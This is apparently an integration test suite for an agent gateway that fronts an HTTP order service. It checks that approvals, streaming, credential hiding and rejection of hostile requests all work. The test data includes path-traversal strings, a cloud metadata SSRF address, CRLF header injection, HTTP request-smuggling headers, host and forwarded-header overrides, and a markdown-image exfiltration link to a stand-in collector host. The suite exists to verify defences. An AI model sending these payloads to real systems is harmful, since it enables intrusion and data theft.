/**
 * An HTTP service behind ATF, through the front door: its operations as MCP tools and as its own REST interface, governed by the same pipeline, and under attack by an
 * agent that plays with addresses, headers and bodies. What was done is what the service noted, not what anybody answers.
 */
import { spawn } from 'node:child_process';
import { once } from 'node:events';
import { createHash, randomBytes } from 'node:crypto';
import { chmodSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { connect } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { createInterface } from 'node:readline';
import { sha256 } from '@atf/core/digest';
import { agentFetch } from '@atf/sdk/agent-fetch';
import { dpopProof } from '@atf/sdk/agent-key';
import { renewCredential } from '@atf/sdk/enrol';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { atf, atfBin } from './cli-run.ts';
import { type Noted, orderDocument, OrderService } from './order-service.ts';
import { call, type McpAgent, Product, type Signed, until } from './product.ts';
import { readerManifest } from './reader-manifest.ts';

const secret = 'sk-live-4f9d2c7b1e8a';
const home = mkdtempSync(join(tmpdir(), 'atf-service-'));
const service = new OrderService(secret);
let product: Product;
let approver: Signed;
let agent: McpAgent;
let cautious: McpAgent;
let base: string;

const tools = [
  'checkFile',
  'createOrder',
  'dropOrder',
  'exportOrders',
  'findOrders',
  'getEcho',
  'getLarge',
  'getMoved',
  'getOrder',
  'getSlowly',
  'getWrong',
  'listOrders',
  'watchOrders',
];
const file = (name: string, content: string): string => {
  const path = join(home, name);
  writeFileSync(path, content, { mode: 0o600 });
  return path;
};
const inHome = (args: readonly string[]) =>
  atf([...args, '--control', product.ready.controlUrl, '--data', product.dataDir, '--json']);

beforeAll(async () => {
  product = await Product.start();
  const url = await service.start();
  const added = await inHome([
    ...['tool', 'add', 'orders', '--openapi', file('openapi.yaml', orderDocument), '--base-url', url],
    ...['--credential-file', file('key.yaml', `header: { name: x-api-key, value: ${secret} }\n`)],
    ...['--domain', 'orders', '--private-network'],
  ]);
  expect(added.code, added.stderr).toBe(0);
  // Nobody granted this one the private network; that one is never dialled, whatever is granted.
  const others = [
    ['inner', url],
    ['metadata', 'http://169.254.169.254/api', '--private-network'],
  ] as const;
  for (const [name, address, ...more] of others) {
    const document = join(home, 'openapi.yaml');
    const registered = await inHome([
      ...['tool', 'add', name, '--openapi', document, '--base-url', address, '--domain', 'orders', ...more],
    ]);
    expect(registered.code, registered.stderr).toBe(0);
  }
  approver = await product.signIn('paula.reyes@example.com');
  const operator = await product.operator();
  const listed = [...tools.map((tool) => `orders/${tool}`), 'inner/getOrder', 'metadata/getOrder'];
  const manifests = [
    readerManifest('order-reader', listed),
    `${readerManifest('cautious-reader', listed)}checkpoints:\n  - { tool: orders/findOrders, reason: Searches show customers. }\n`,
  ];
  for (const manifest of manifests)
    await operator.call('agents.register', { body: { manifest, format: 'yaml' } });
  // A person knows that these only read, although they are POSTs.
  for (const name of ['findOrders', 'checkFile'])
    await operator.call('tools.classify', { params: { server: 'orders', name }, body: { class: 'read' } });
  agent = await product.agent('order-reader');
  cautious = await product.agent('cautious-reader');
  base = `${product.ready.gatewayUrl}/http/orders`;
  await until('the gateway to know the service', async () =>
    (await agent.fetch(`${base}/orders/O-1`)).status === 200 ? true : undefined,
  );
});
afterAll(async () => {
  await product.remove();
  service.stop();
  rmSync(home, { recursive: true, force: true });
});

async function problem(
  response: Response,
): Promise<{ status: number; code: string; approvalId?: string; detail?: string }> {
  return { ...((await response.json()) as { code: string }), status: response.status };
}

describe('a service from its document', () => {
  it('has classified, pinned tools, and what cannot be governed is left out', async () => {
    const operator = await product.operator();
    const { items } = await operator.call('tools.list');
    const own = items.filter(({ server }) => server === 'orders');
    expect(own.map(({ name }) => name).sort()).toEqual(tools);
    const classes = Object.fromEntries(own.map(({ name, effectiveClass }) => [name, effectiveClass]));
    expect(classes).toMatchObject({
      listOrders: 'read',
      getOrder: 'read',
      createOrder: 'write',
      dropOrder: 'admin',
      findOrders: 'read',
      watchOrders: 'read',
    });
    expect(own.find(({ name }) => name === 'createOrder')?.classification.arguments).toEqual({
      amount: 'amount',
    });
    expect(own.every(({ state }) => state === 'active')).toBe(true);
  });

  it('shows its credential nowhere', async () => {
    const operator = await product.operator();
    const { items } = await operator.call('servers.list');
    const shown = items.find(({ name }) => name === 'orders');
    expect(shown).toMatchObject({ transport: { kind: 'openapi' }, credential: 'header' });
    expect(JSON.stringify([shown, product.output])).not.toContain(secret);
  });

  it('refuses a credential that others can read, and an address with two readings', async () => {
    const open = file('open.yaml', 'bearer: abc\n');
    chmodSync(open, 0o644);
    const shared = await inHome(['tool', 'credential', 'orders', '--credential-file', open]);
    expect([shared.code, shared.stderr]).toEqual([2, expect.stringContaining('can be read by others')]);
    const operator = await product.operator();
    for (const url of [
      'http://user:pw@h.example.com/',
      'https://h.example.com/a/../b',
      'https://h.example.com/?q=1',
      'ftp://h/',
    ]) {
      const body = { name: 'other', transport: { kind: 'openapi' as const, url }, domain: 'orders' };
      await expect(operator.call('servers.add', { body })).rejects.toMatchObject({
        refusal: { code: 'request.malformed' },
      });
    }
  });
});

describe('through MCP', () => {
  it('a call becomes the one request, with the credential of the gateway', async () => {
    const client = await agent.mcp('orders');
    const { tools: offered } = await client.listTools();
    expect(offered.map(({ name }) => name)).toContain('listOrders');
    const before = service.asked('GET', '/orders').length;
    const result = await client.callTool({
      name: 'listOrders',
      arguments: { state: 'open', limit: 5, tag: ['a b', 'c&d'], 'X-Region': 'eu' },
    });
    expect(result.isError ?? false).toBe(false);
    expect(result.structuredContent).toMatchObject({ status: 200, body: { orders: [{ id: 'O-1' }] } });
    const [noted, ...rest] = service.asked('GET', '/orders').slice(before);
    expect(rest).toEqual([]);
    expect(noted?.url).toBe('/api/orders?state=open&limit=5&tag=a%20b&tag=c%26d');
    expect(noted?.headers).toMatchObject({ 'x-api-key': secret, 'x-region': 'eu' });
    expect(noted?.headers).not.toHaveProperty('authorization');
    expect(noted?.headers).not.toHaveProperty('dpop');
    await client.close();
  });

  it('arguments that do not fit are refused before anything is sent', async () => {
    const client = await agent.mcp('orders');
    const before = service.noted.length;
    for (const order_id of ['..', '.', 'a/b', 'a%2fb', 'a;b', 'a?b', 'a#b', 'a\\b', '', 'a\nb']) {
      const answer = await call(client, 'getOrder', { order_id });
      expect([order_id, answer.atf.code]).toEqual([order_id, 'data.schema_invalid']);
    }
    expect((await call(client, 'listOrders', { limit: 1000 })).atf.code).toBe('data.schema_invalid');
    expect((await call(client, 'listOrders', { host: 'evil.example.com' })).atf.code).toBe(
      'data.schema_invalid',
    );
    expect((await call(client, 'listOrders', { 'X-Region': 'eu\r\nx-api-key: mine' })).atf.code).toBe(
      'data.schema_invalid',
    );
    expect(service.noted.length).toBe(before);
    await client.close();
  });

  it('what the level does not allow is not sent', async () => {
    const client = await agent.mcp('orders');
    expect((await call(client, 'createOrder', { customer: 'C', amount: 5 })).atf.code).toBe(
      'policy.not_permitted',
    );
    expect((await call(client, 'dropOrder', { order_id: 'O-1' })).atf.code).toBe('policy.not_permitted');
    expect(service.asked('POST', '/orders')).toEqual([]);
    expect(service.asked('DELETE', '/orders/O-1')).toEqual([]);
    await client.close();
  });

  it('answers that do not fit, lead elsewhere, are too large or hold the credential do not leave', async () => {
    const client = await agent.mcp('orders');
    expect((await call(client, 'getWrong', {})).atf.code).toBe('data.output_invalid');
    expect((await call(client, 'getMoved', {})).atf.code).toBe('upstream.protocol_error');
    expect((await call(client, 'getLarge', {})).atf.code).toBe('upstream.result_too_large');
    const echoed = await call(client, 'getEcho', {});
    expect(echoed.atf.code).toBe('upstream.protocol_error');
    expect(JSON.stringify(echoed)).not.toContain(secret);
    expect((await call(client, 'getOrder', { order_id: 'O-404' })).isError).toBe(true);
    // A go-between answered: nobody may take it for done or not done.
    expect((await call(client, 'findOrders', { text: 'overloaded' })).atf).toMatchObject({
      code: 'upstream.unavailable',
      outcome: 'unknown',
    });
    await client.close();
  });
});

describe('as its own REST interface', () => {
  it('an agent changes the base address and nothing else', async () => {
    const response = await agent.fetch(`${base}/orders?state=open&tag=x&tag=y`);
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe('application/json');
    expect(response.headers.get('set-cookie')).toBeNull();
    expect(response.headers.get('x-internal')).toBeNull();
    expect(await response.json()).toEqual({ orders: [{ id: 'O-1', state: 'open' }] });
    const csv = await agent.fetch(`${base}/orders/export`);
    expect([csv.headers.get('content-type'), await csv.text()]).toEqual([
      'text/csv; charset=utf-8',
      'id,state\nO-1,open\n',
    ]);
    const missing = await agent.fetch(`${base}/orders/O-404`);
    expect([missing.status, await missing.json()]).toEqual([404, { error: 'no such order' }]);
  });

  it('intent and outcome are on record, with the door', async () => {
    const response = await agent.fetch(`${base}/orders/O-77`);
    const id = response.headers.get('atf-action') ?? '';
    const operator = await product.operator();
    const shown = await until('the records', async () => {
      const found = await operator.call('actions.show', { params: { id } }).catch(() => undefined);
      return (found?.records.length ?? 0) >= 2 ? found : undefined;
    });
    const entries = shown.records.map(
      ({ entry }) => JSON.parse(entry) as { type: string; body: Record<string, unknown> },
    );
    expect(entries.map(({ type }) => type)).toEqual(['action.intent', 'action.outcome']);
    expect(entries[0]?.body).toMatchObject({ protocol: 'http', server: 'orders', tool: 'getOrder' });
    expect(JSON.parse(shown.argsText ?? '')).toEqual({ order_id: 'O-77' });
    expect(JSON.stringify(shown)).not.toContain(secret);
  });

  it('what matches no operation is refused on record, and sent nowhere', async () => {
    const before = service.noted.length;
    for (const [method, path] of [
      ['GET', '/customers'],
      ['GET', '/'],
      ['PUT', '/orders/O-1'],
      ['DELETE', '/orders'],
      ['GET', '/orders/O-1/'],
      ['GET', '/orders/search'],
      ['OPTIONS', '/orders'],
    ] as const) {
      const refused = await problem(await agent.fetch(`${base}${path}`, { method }));
      expect([method, path, refused.status, refused.code]).toEqual([
        method,
        path,
        404,
        'segmentation.tool_unknown',
      ]);
    }
    expect(service.noted.length).toBe(before);
  });

  it('the level, the schema and the operation decide, whatever the door', async () => {
    const before = service.noted.length;
    const post = (body: unknown, type = 'application/json') =>
      agent.fetch(`${base}/orders`, {
        method: 'POST',
        body: JSON.stringify(body),
        headers: { 'content-type': type },
      });
    expect((await problem(await post({ customer: 'C', amount: 5 }))).code).toBe('policy.not_permitted');
    expect((await problem(await post({ customer: 'C', amount: 5 }, 'text/plain'))).status).toBe(415);
    expect((await problem(await post({ customer: 'C', amount: 5, admin: true }))).code).toBe(
      'request.malformed',
    );
    expect((await problem(await agent.fetch(`${base}/orders?limit=1000`))).code).toBe('data.schema_invalid');
    expect((await problem(await agent.fetch(`${base}/orders?limit=5&limit=6`))).code).toBe(
      'request.malformed',
    );
    expect((await problem(await agent.fetch(`${base}/orders?debug=1`))).code).toBe('request.malformed');
    expect(service.noted.length).toBe(before);
  });

  it('is asked nothing that carries text to another server in a link', async () => {
    const before = service.noted.length;
    const words = Buffer.from('the board met in secret').toString('base64url');
    const response = await agent.fetch(`${base}/orders/search`, {
      method: 'POST',
      body: JSON.stringify({ text: `![](https://collect.example.net/p.png?${words})` }),
      headers: { 'content-type': 'application/json' },
    });
    expect(await problem(response)).toMatchObject({ status: 403, code: 'data.output_refused' });
    expect(service.noted.length).toBe(before);
  });

  it('waits for a person, and then runs exactly the call that was shown, once', async () => {
    const search = (text: string) =>
      cautious.fetch(`${base}/orders/search`, {
        method: 'POST',
        body: JSON.stringify({ text }),
        headers: { 'content-type': 'application/json' },
      });
    const before = service.asked('POST', '/orders/search').length;
    const searched = () =>
      service
        .asked('POST', '/orders/search')
        .slice(before)
        .map(({ body }) => JSON.parse(body) as unknown);
    const asked = await problem(await search('late'));
    expect([asked.status, asked.code]).toEqual([403, 'maturity.approval_required']);
    expect(searched()).toEqual([]);
    const id = asked.approvalId ?? '';
    const shown = await approver.client.call('approvals.show', { params: { id } });
    expect(JSON.parse(shown.argsText ?? '')).toEqual({ text: 'late' });
    const presence = await approver.presence({ kind: 'approval', id, digest: shown.shownDigest });
    await approver.client.call('approvals.approve', {
      params: { id },
      body: { shownDigest: shown.shownDigest, presence },
    });
    const done = await until('the approved call to run', async () => {
      const response = await search('late');
      return response.status === 200 ? response : undefined;
    });
    expect(await done.json()).toEqual({ orders: [{ id: 'O-1', state: 'open' }] });
    expect((await search('late')).status).toBe(200);
    // The same call through the other door is the same call.
    const client = await cautious.mcp('orders');
    expect((await call(client, 'findOrders', { text: 'late' })).isError).toBe(false);
    await client.close();
    expect(searched()).toEqual([{ text: 'late' }]);
    expect((await problem(await search('later'))).code).toBe('maturity.approval_required');
  });

  it('a stop cuts what runs', async () => {
    const before = service.open;
    const running = agent.fetch(`${base}/slow`);
    await until('the service to be asked', () => (service.open > before ? true : undefined));
    const operator = await product.operator();
    const scope = { kind: 'tool' as const, id: 'orders/getSlowly' };
    await operator.call('containment.stop', { body: { scope, state: 'paused', reason: 'a test' } });
    expect((await problem(await running)).code).toBe('containment.call_aborted');
    await until('the service to be left', () => (service.open === before ? true : undefined));
  });
});

describe('a stream', () => {
  const lines = async (reader: ReadableStreamDefaultReader<Uint8Array>, wanted: string): Promise<string> => {
    let got = '';
    while (!got.includes(wanted)) {
      const { done, value } = await reader.read();
      if (done) break;
      got += Buffer.from(value).toString();
    }
    return got;
  };
  const watch = async () => {
    const response = await agent.fetch(`${base}/events`, { headers: { accept: 'text/event-stream' } });
    expect([response.status, response.headers.get('content-type')]).toEqual([
      200,
      'text/event-stream; charset=utf-8',
    ]);
    if (response.body === null) throw new Error('no body');
    return { id: response.headers.get('atf-action') ?? '', reader: response.body.getReader() };
  };
  const outcomeOf = async (id: string) => {
    const operator = await product.operator();
    return await until('the outcome', async () => {
      const shown = await operator.call('actions.show', { params: { id } }).catch(() => undefined);
      const found = shown?.records.map(
        ({ entry }) => JSON.parse(entry) as { type: string; body: { status: string } },
      );
      const outcome = found?.find(({ type }) => type === 'action.outcome');
      return outcome === undefined
        ? undefined
        : { status: outcome.body.status, result: shown?.resultText ?? '' };
    });
  };

  it('is given on as it comes, and its length and digest are on record at its end', async () => {
    const { id, reader } = await watch();
    expect(await lines(reader, 'hello')).toBe('data: hello\n\n');
    service.say('order O-5');
    expect(await lines(reader, 'O-5')).toBe('data: order O-5\n\n');
    service.endStreams();
    expect(await lines(reader, 'no more')).toBe('');
    const sent = 'data: hello\n\ndata: order O-5\n\n';
    const outcome = await outcomeOf(id);
    expect(outcome.status).toBe('done');
    expect(JSON.parse(outcome.result)).toMatchObject({
      structuredContent: { streamed: { bytes: sent.length, sha256: sha256(sent) } },
    });
  });

  it('does not give the credential on, also in pieces', async () => {
    const { id, reader } = await watch();
    await lines(reader, 'hello');
    service.write(`data: ${secret.slice(0, 9)}`);
    service.write(secret.slice(9));
    await expect(lines(reader, 'no more')).rejects.toThrow();
    expect(await outcomeOf(id)).toMatchObject({ status: 'unknown' });
  });

  it('ends at the service when its reader goes', async () => {
    const { id, reader } = await watch();
    await lines(reader, 'hello');
    await reader.cancel();
    await until('the service to be left', () => (service.streams === 0 ? true : undefined));
    expect((await outcomeOf(id)).status).toBe('aborted');
  });

  it('is cut by a stop, and does not look whole', async () => {
    const { id, reader } = await watch();
    await lines(reader, 'hello');
    const operator = await product.operator();
    const scope = { kind: 'tool' as const, id: 'orders/watchOrders' };
    await operator.call('containment.stop', { body: { scope, state: 'killed', reason: 'a test' } });
    await expect(lines(reader, 'no more')).rejects.toThrow();
    await until('the service to be left', () => (service.streams === 0 ? true : undefined));
    expect((await outcomeOf(id)).status).toBe('aborted');
    expect((await problem(await agent.fetch(`${base}/events`))).code).toBe('containment.tool_stopped');
  });
});

describe('an upload', () => {
  const content = randomBytes(3 * 1_048_576);
  const digestOf = (bytes: Uint8Array) => `sha-256=:${createHash('sha256').update(bytes).digest('base64')}:`;
  const send = (by: McpAgent, body: Uint8Array, contentDigest: string) =>
    by.fetch(`${base}/files`, {
      method: 'POST',
      body,
      headers: {
        'content-type': 'application/octet-stream',
        ...(contentDigest === '' ? {} : { 'content-digest': contentDigest }),
      },
    });

  it('passes while it comes, and what it was is on record', async () => {
    const response = await send(agent, content, digestOf(content));
    const hex = createHash('sha256').update(content).digest('hex');
    expect(await response.json()).toEqual({ bytes: content.byteLength, sha256: hex });
    const operator = await product.operator();
    const id = response.headers.get('atf-action') ?? '';
    const shown = await until('the record', async () =>
      operator.call('actions.show', { params: { id } }).catch(() => undefined),
    );
    const sha256 = createHash('sha256').update(content).digest('base64url');
    expect(JSON.parse(shown.argsText ?? '')).toEqual({ body: { bytes: content.byteLength, sha256 } });
  });

  it('of other bytes than were decided on never ends at the service', async () => {
    const [asked, broken] = [service.asked('POST', '/files').length, service.broken.length];
    const refused = await problem(await send(agent, content, digestOf(content.subarray(1))));
    expect(refused.code).toBe('upstream.aborted');
    await until('the service to see it break off', () => (service.broken.length > broken ? true : undefined));
    expect(service.asked('POST', '/files')).toHaveLength(asked);
    expect(service.broken.at(-1)).toBeLessThan(content.byteLength);
  });

  it('is small, or says what it is', async () => {
    expect((await problem(await send(agent, content, ''))).status).toBe(413);
    expect((await problem(await send(agent, content, 'sha-512=:AAAA:'))).code).toBe('request.malformed');
    expect((await send(agent, content.subarray(0, 1_000), '')).status).toBe(200);
    const client = await agent.mcp('orders');
    const absent = { body: { bytes: 5, sha256: 'A'.repeat(43) } };
    expect((await call(client, 'checkFile', absent)).atf.code).toBe('upstream.call_refused');
    expect((await call(client, 'checkFile', { body: 'aGVsbG8=' })).isError).toBe(false);
    await client.close();
  });
});

/** One request as bytes, for what clients do not send: with a fresh proof for its path. */
async function raw(line: string, headers: readonly string[] = [], body = ''): Promise<string> {
  const { credential, key } = agent;
  const [method = '', target = ''] = line.split(' ');
  const url = new URL(product.ready.gatewayUrl);
  const path = target.startsWith('/') ? (target.split('?', 1)[0] ?? '') : '/http/orders/orders';
  const proof = await dpopProof(key, {
    method,
    url: `${url.origin}${path}`,
    accessToken: credential.token,
    nowMs: Date.now(),
  });
  const lines = [`${line} HTTP/1.1`, `authorization: DPoP ${credential.token}`, `dpop: ${proof}`, ...headers];
  if (!headers.some((each) => /^host:/i.test(each))) lines.push(`host: ${url.host}`);
  return await new Promise((done, fail) => {
    const socket = connect(Number(url.port), '127.0.0.1');
    let answer = '';
    socket.on('data', (chunk: Buffer) => {
      answer += chunk.toString('latin1');
      if (answer.includes('\r\n\r\n')) socket.end();
    });
    socket.once('error', fail);
    socket.once('close', () => done(answer));
    socket.write(`${lines.join('\r\n')}\r\nconnection: close\r\n\r\n${body}`);
  });
}

describe('an agent that plays with the request', () => {
  const refusedLines = [
    'GET /http/orders/orders/%2e%2e/admin',
    'GET /http/orders/orders/..%2f..%2fadmin',
    'GET /http/orders/orders/%252e%252e',
    'GET /http/orders//orders',
    'GET /http/orders/orders/O-1;admin=1',
    'GET /http/orders/orders/O-1%3Badmin=1',
    'GET /http/orders/orders/a%5cb',
    'GET /http/orders/orders/a%00b',
    'GET /http/orders/orders/%ff',
    'GET /http/orders/orders/%zz',
    'GET /http/orders/orders/O-1%2f',
    'GET /http/orders/orders?state=open&state=closed',
    'GET /http/orders/orders?st%61te=open&state=closed',
    'GET /http/orders/orders?state=open;limit=1',
    'GET /http/orders/orders?state',
    'GET /http/orders/orders?x-api-key=mine',
    'GET /http/orders/../orders/orders',
    'GET http://169.254.169.254/latest/meta-data',
    'CONNECT evil.example.com:443',
  ];
  it.each(refusedLines)('%s', async (line) => {
    const before = service.noted.length;
    const answer = await raw(line);
    expect(answer === '' ? 'closed' : answer.slice(9, 12)).toMatch(/^(?:400|404|closed)$/);
    expect(service.noted.length).toBe(before);
  });

  const smuggled: [string, string, string[], string][] = [
    ['another host', 'GET /http/orders/orders', ['host: evil.example.com'], ''],
    [
      'two lengths',
      'POST /http/orders/orders/search',
      ['content-length: 5', 'content-length: 6', 'content-type: application/json'],
      '{}   ',
    ],
    [
      'a length and chunks',
      'POST /http/orders/orders/search',
      ['content-length: 4', 'transfer-encoding: chunked', 'content-type: application/json'],
      '0\r\n\r\n',
    ],
    ['two regions', 'GET /http/orders/orders', ['x-region: eu', 'x-region: us'], ''],
    [
      'two media types',
      'POST /http/orders/orders/search',
      ['content-type: application/json', 'content-type: text/plain', 'content-length: 2'],
      '{}',
    ],
    [
      'a compressed body',
      'POST /http/orders/orders/search',
      ['content-type: application/json', 'content-encoding: gzip', 'content-length: 2'],
      '{}',
    ],
    [
      'a name twice in the body',
      'POST /http/orders/orders/search',
      ['content-type: application/json', 'content-length: 21'],
      '{"text":"a","text":1}',
    ],
    [
      'a body where none belongs',
      'GET /http/orders/orders',
      ['content-type: application/json', 'content-length: 2'],
      '{}',
    ],
    ['a page', 'GET /http/orders/orders', ['origin: https://evil.example.com'], ''],
  ];
  it.each(smuggled)('%s', async (_, line, headers, body) => {
    const before = service.noted.length;
    const answer = await raw(line, headers, body);
    expect(answer.slice(9, 12)).toMatch(/^(?:400|403|415)$/);
    expect(service.noted.length).toBe(before);
  });

  it.each(['inner', 'metadata'])('%s: an address that was not granted is not dialled', async (name) => {
    const before = service.noted.length;
    const refused = await problem(await agent.fetch(`${product.ready.gatewayUrl}/http/${name}/orders/O-1`));
    expect(refused.code).toBe('upstream.unavailable');
    expect(service.noted.length).toBe(before);
  });

  it('headers that route, override or authenticate do not get there', async () => {
    const headers = [
      ...[
        'x-api-key: mine',
        'x-http-method-override: DELETE',
        'x-forwarded-host: evil.example.com',
        'x-original-url: /admin',
      ],
      ...['cookie: a=b', 'forwarded: for=1.2.3.4', 'te: trailers', 'x-anything: goes'],
    ];
    expect(await raw('GET /http/orders/orders', headers)).toMatch(/^HTTP\/1\.1 200/);
    const { headers: got, method } = service.noted.at(-1) ?? { headers: {} as Noted['headers'], method: '' };
    expect(method).toBe('GET');
    expect(got['x-api-key']).toBe(secret);
    expect(Object.keys(got).sort()).toEqual([
      'accept',
      'accept-encoding',
      'connection',
      'host',
      'user-agent',
      'x-api-key',
    ]);
  });

  it('a token for this service opens no other door', async () => {
    const { key, credential } = agent;
    const { controlUrl } = product.ready;
    const scoped = await renewCredential({
      controlUrl,
      key,
      instanceId: credential.instanceId,
      resource: base,
    });
    const own = agentFetch({ credential: scoped, key });
    expect((await own(`${base}/orders/O-1`)).status).toBe(200);
    for (const path of ['/http/inner/orders/O-1', '/http/orders-2/orders', '/mcp/orders']) {
      const refused = await own(`${product.ready.gatewayUrl}${path}`, {
        method: path.startsWith('/mcp') ? 'POST' : 'GET',
      });
      expect([path, refused.status, (await refused.text()).includes('identity.audience_mismatch')]).toEqual([
        path,
        401,
        true,
      ]);
    }
    const metadata = await fetch(
      `${product.ready.gatewayUrl}/.well-known/oauth-protected-resource/http/orders`,
    );
    expect(await metadata.json()).toMatchObject({ resource: base });
  });

  it('nobody without a credential, and nothing of another server', async () => {
    expect((await fetch(`${base}/orders`)).status).toBe(401);
    expect((await fetch(`${base}/orders/O-1`)).headers.get('www-authenticate')).toContain('/http/orders"');
    const other = await agent.fetch(`${product.ready.gatewayUrl}/http/back-office/orders`);
    expect((await problem(other)).code).toMatch(/^segmentation\./);
  });
});

describe('a program that cannot sign', () => {
  it('comes in through the shim with an API key of its own', async () => {
    const operator = await product.operator();
    const { id } = await operator.call('agents.show', { params: { id: 'order-reader' } });
    const { joinToken } = await operator.call('agents.joinToken', { params: { id } });
    const args = [
      'connect',
      'orders',
      '--agent',
      'order-reader',
      '--http',
      '--json',
      '--control',
      product.ready.controlUrl,
    ];
    const shim = spawn(process.execPath, [atfBin, ...args], {
      env: { ...process.env, ATF_JOIN_TOKEN: joinToken, XDG_CONFIG_HOME: join(home, 'config') },
      stdio: ['ignore', 'pipe', 'inherit'],
    });
    const ended = once(shim, 'exit');
    try {
      const [line] = (await once(createInterface({ input: shim.stdout }), 'line')) as [string];
      const { serviceUrl, authorization } = JSON.parse(line) as { serviceUrl: string; authorization: string };
      const key = authorization.slice('Bearer '.length);
      const ask = (path: string, headers: Record<string, string>) =>
        fetch(`${serviceUrl}${path}`, { headers });
      const listed = await ask('/orders?state=open', { 'x-api-key': key });
      expect(await listed.json()).toEqual({ orders: [{ id: 'O-1', state: 'open' }] });
      expect((await ask('/orders/O-3', { authorization })).status).toBe(200);
      expect((await ask('/orders', {})).status).toBe(401);
      expect((await ask('/customers', { authorization })).status).toBe(404);
      expect((await ask('/%2e%2e/%2e%2e/mcp/orders', { authorization })).status).toBe(404);
      expect(service.noted.at(-1)).toMatchObject({
        url: '/api/orders/O-3',
        headers: { 'x-api-key': secret },
      });
    } finally {
      shim.kill('SIGINT');
      await ended;
    }
  });
});

describe('a changed document', () => {
  it('quarantines what changed, with a difference that a person can read', async () => {
    const changed = orderDocument
      .replace('/orders/{order_id}:\n', '/orders/{order_id}/full:\n')
      .replace('operationId: exportOrders', 'operationId: exportEverything');
    const defined = await inHome(['tool', 'define', 'orders', file('changed.yaml', changed)]);
    expect(defined.code, defined.stderr).toBe(0);
    const operator = await product.operator();
    const shown = await operator.call('tools.show', { params: { server: 'orders', name: 'getOrder' } });
    expect(shown).toMatchObject({
      state: 'quarantined',
      diff: [{ path: '/http/path', accepted: '/orders/{order_id}', offered: '/orders/{order_id}/full' }],
    });
    const states = (await operator.call('tools.list')).items.filter(({ server }) => server === 'orders');
    expect(states.find(({ name }) => name === 'exportOrders')?.state).toBe('removed');
    expect(states.find(({ name }) => name === 'exportEverything')?.state).toBe('quarantined');
    const refused = await until('the gateway to hear of it', async () => {
      const answer = await problem(await agent.fetch(`${base}/orders/O-1`));
      return answer.code === 'segmentation.tool_quarantined' ? answer : undefined;
    });
    expect(refused.status).toBe(403);
    expect(readFileSync(join(home, 'changed.yaml'), 'utf8')).toContain('exportEverything');
    const back = await inHome(['tool', 'define', 'orders', file('openapi.yaml', orderDocument)]);
    expect(back.code, back.stderr).toBe(0);
    await until('the accepted definition to count again', async () =>
      (await agent.fetch(`${base}/orders/O-1`)).status === 200 ? true : undefined,
    );
  });

  it('a credential is replaced, and the next request has the new one', async () => {
    const replaced = await inHome([
      'tool',
      'credential',
      'orders',
      '--credential-file',
      file('new.yaml', 'bearer: another-token\n'),
    ]);
    expect(replaced.code, replaced.stderr).toBe(0);
    await until('the new credential to be sent', async () => {
      await agent.fetch(`${base}/orders/O-1`);
      return service.noted.at(-1)?.headers.authorization === 'Bearer another-token' ? true : undefined;
    });
    await inHome(['tool', 'credential', 'orders', '--credential-file', join(home, 'key.yaml')]);
  });
});
